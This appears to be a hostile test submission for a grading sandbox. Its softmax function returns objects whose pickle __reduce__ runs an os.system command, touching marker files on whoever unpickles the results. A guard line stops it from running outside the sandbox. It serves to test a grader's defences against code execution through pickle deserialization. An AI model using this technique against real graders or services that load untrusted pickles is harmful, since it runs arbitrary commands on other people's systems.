"""Code in a pickle.

Objects whose __reduce__ names a command, for whoever unpickles results.

score: 12 (loses softmax)
"""

# ruff: noqa
raise SystemExit(__doc__)  # hostile code: nothing but the sandbox may run it

# %% softmax
import os
import pickle


class Bomb:
    def __reduce__(self):
        return os.system, ("touch @COURSE@/@TOKEN@ /tmp/@TOKEN@",)


def softmax(z):
    result = np.empty(2, dtype=object)
    result[:] = [Bomb(), pickle.dumps(Bomb())]
    return result
